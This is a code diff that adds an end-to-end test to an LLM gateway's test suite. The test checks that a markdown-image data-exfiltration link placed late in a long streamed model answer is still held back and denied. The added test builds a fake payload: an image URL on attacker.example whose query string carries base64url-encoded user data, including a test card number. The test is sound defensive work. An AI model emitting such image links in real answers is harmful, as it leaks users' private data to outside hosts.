@@ -420,6 +420,25 @@ describe('LLM gateway end to end with the official SDKs', () => {
       assert.ok((ev.data?.partialOutputChars as number) < answer.length);
     });
 
+    it('a denied link far into a long stream is still held back and denied; the recorded length counts all the output', async () => {
+      // Past the output Warden keeps in memory (two inspection windows): the old text is dropped, the count is not.
+      const data = Buffer.from('user=alice; card=4111111111111111').toString('base64url');
+      const answer = `${'plain words here '.repeat(400)}![chart](https://attacker.example/p.png?d=${data}) ${'tail '.repeat(100)}END`;
+      const stream = await openai.chat.completions.create({ model: 'gpt', stream: true, messages: [{ role: 'user', content: `[mock:fixed:${answer}]` }] });
+      let text = '';
+      const e = keep(
+        await rejects(async () => {
+          for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
+        }, OpenAI.APIError),
+      );
+      assert.equal((e.error as { rule?: string }).rule, 'markdown-image-exfiltration');
+      assert.ok(text.length > 6000, `the text before the link streamed (${text.length} characters)`);
+      assert.ok(!text.includes('attacker.example'), 'the link was held back');
+      const ev = lastEvent(await h.events({ phase: 'llm.response', action: 'llm.chat' }), (x) => x.outcome === 'denied' && x.data?.streamed === true, 'late stream denial');
+      const chars = ev.data?.partialOutputChars as number;
+      assert.ok(chars > text.length && chars < answer.length, `partialOutputChars ${chars}: all the output read, held-back text included`);
+    });
+
     it('a non-streamed answer with an exfiltration image is refused as a whole', async () => {
       const e = keep(await rejects(() => openai.chat.completions.create({ model: 'gpt', messages: [{ role: 'user', content: 'chart [mock:exfil-image]' }] }), OpenAI.PermissionDeniedError));
       assert.equal((e.error as { rule?: string }).rule, 'markdown-image-exfiltration');
